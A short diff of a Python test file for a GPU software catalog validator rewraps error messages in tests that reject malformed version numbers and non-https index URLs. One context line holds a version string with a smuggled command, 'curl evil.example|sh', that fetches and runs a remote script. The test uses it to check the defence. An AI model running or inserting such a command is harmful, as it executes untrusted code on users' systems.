@@ -31,7 +31,8 @@ EVIL = "550.127.08$(curl evil.example|sh)"
 def test_a_version_that_is_not_a_dotted_number_stops_the_catalog(data, column):  # noqa: F811
     line = edit(data, "gpu_software.csv", 0, **{column: EVIL})
     assert message(data) == (
-        f"gpu_software.csv line {line}, column {column!r}: must be a dotted version number of 1 to 4 parts, digits only, "
+        f"gpu_software.csv line {line}, column {column!r}: must "
+        "be a dotted version number of 1 to 4 parts, digits only, "
         f"e.g. 550.127.08 (got {EVIL!r})"
     )
 
@@ -52,7 +53,8 @@ def test_an_index_url_must_be_https_on_a_documented_host(data, url):  # noqa: F8
     line = edit(data, "gpu_software.csv", 0, pytorch_index_url=url)
     assert message(data) == (
         f"gpu_software.csv line {line}, column 'pytorch_index_url': must be an https:// URL on one of the hosts "
-        f"download.pytorch.org, mirrors.aliyun.com, path of letters, digits and ._~/%+- only (no port, user, query or spaces) "
+        "download.pytorch.org, mirrors.aliyun.com, path of letters, "
+        "digits and ._~/%+- only (no port, user, query or spaces) "
         f"(got {url!r})"
     )
 
